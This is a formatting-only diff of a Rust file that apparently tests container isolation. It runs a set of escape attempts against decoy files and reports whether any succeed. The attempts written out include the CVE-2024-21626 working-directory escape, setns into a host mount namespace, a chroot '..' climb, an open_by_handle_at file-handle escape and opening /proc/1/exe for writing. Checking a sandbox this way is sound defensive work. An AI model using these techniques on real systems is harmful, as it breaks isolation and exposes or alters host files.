@@ -11,9 +11,13 @@ use nix::unistd::{chdir, chroot};
 use super::{Attack, Attempt, Decoys, Stop, attack, gained, nothing, proc};
 
 pub(super) const ATTACKS: &[Attack] = &[
-    attack("host-file", "", "opens a file of the host by its path", "another root directory", |decoys| {
-        read(decoys.get("marker")?)
-    }),
+    attack(
+        "host-file",
+        "",
+        "opens a file of the host by its path",
+        "another root directory",
+        |decoys| read(decoys.get("marker")?),
+    ),
     attack(
         "working-directory",
         "CVE-2024-21626",
@@ -45,7 +49,10 @@ pub(super) const ATTACKS: &[Attack] = &[
         "a PID namespace, in which no process of the host can be named",
         |decoys| {
             proc()?;
-            setns(File::open(format!("/proc/{}/ns/mnt", decoys.get("pid")?))?, CloneFlags::CLONE_NEWNS)?;
+            setns(
+                File::open(format!("/proc/{}/ns/mnt", decoys.get("pid")?))?,
+                CloneFlags::CLONE_NEWNS,
+            )?;
             read(decoys.get("marker")?)
         },
     ),
@@ -72,7 +79,8 @@ fn read(path: &str) -> Attempt {
 /// Deeper than any directory here is.
 const DEPTH: usize = 128;
 
-/// The new root leaves the working directory outside: from there `..` ends only at the true `/` (chroot(2)).
+/// The new root leaves the working directory outside: from there `..` ends only at the true `/`
+/// (chroot(2)).
 fn climb(decoys: &Decoys) -> Attempt {
     chdir("/")?;
     chroot("tmp")?;
@@ -97,24 +105,43 @@ pub fn handle(path: &str) -> nix::Result<String> {
     let (mut handle, mut mount) = (Handle { bytes: 128, kind: 0, handle: [0; 128] }, 0);
     // SAFETY: path, handle and mount outlive the call, and `bytes` is the room in the handle.
     Errno::result(unsafe {
-        libc::syscall(libc::SYS_name_to_handle_at, libc::AT_FDCWD, path.as_ptr(), &raw mut handle, &raw mut mount, 0)
+        libc::syscall(
+            libc::SYS_name_to_handle_at,
+            libc::AT_FDCWD,
+            path.as_ptr(),
+            &raw mut handle,
+            &raw mut mount,
+            0,
+        )
     })?;
-    let bytes: String = handle.handle[..handle.bytes as usize].iter().map(|byte| format!("{byte:02x}")).collect();
+    let bytes: String =
+        handle.handle[..handle.bytes as usize].iter().map(|byte| format!("{byte:02x}")).collect();
     Ok(format!("{}:{bytes}", handle.kind))
 }
 
 fn by_handle(decoys: &Decoys) -> Attempt {
     let unreadable = || Stop::Untried("the file system here has no file handles".into());
     let (kind, hex) = decoys.get("handle")?.split_once(':').ok_or_else(unreadable)?;
-    let mut handle =
-        Handle { bytes: hex.len() as u32 / 2, kind: kind.parse().map_err(|_| unreadable())?, handle: [0; 128] };
+    let mut handle = Handle {
+        bytes: hex.len() as u32 / 2,
+        kind: kind.parse().map_err(|_| unreadable())?,
+        handle: [0; 128],
+    };
     for (byte, digits) in handle.handle.iter_mut().zip(hex.as_bytes().chunks(2)) {
-        *byte = std::str::from_utf8(digits).ok().and_then(|d| u8::from_str_radix(d, 16).ok()).ok_or_else(unreadable)?;
+        *byte = std::str::from_utf8(digits)
+            .ok()
+            .and_then(|d| u8::from_str_radix(d, 16).ok())
+            .ok_or_else(unreadable)?;
     }
     let root = File::open("/")?;
     // SAFETY: the handle outlives the call; the descriptor that it returns is nobody else's.
     let file = unsafe {
-        let fd = libc::syscall(libc::SYS_open_by_handle_at, root.as_raw_fd(), &raw const handle, libc::O_RDONLY);
+        let fd = libc::syscall(
+            libc::SYS_open_by_handle_at,
+            root.as_raw_fd(),
+            &raw const handle,
+            libc::O_RDONLY,
+        );
         OwnedFd::from_raw_fd(Errno::result(fd)? as i32)
     };
     read(&format!("/proc/self/fd/{}", file.as_raw_fd())).or_else(|_| gained("the file is open"))
@@ -128,7 +155,9 @@ fn launcher(_: &Decoys) -> Attempt {
     }
     match File::options().write(true).open("/proc/1/exe") {
         Ok(_) => gained("open for writing"),
-        Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => gained("writable as soon as it has ended"),
+        Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => {
+            gained("writable as soon as it has ended")
+        }
         Err(error) => Err(error.into()),
     }
 }
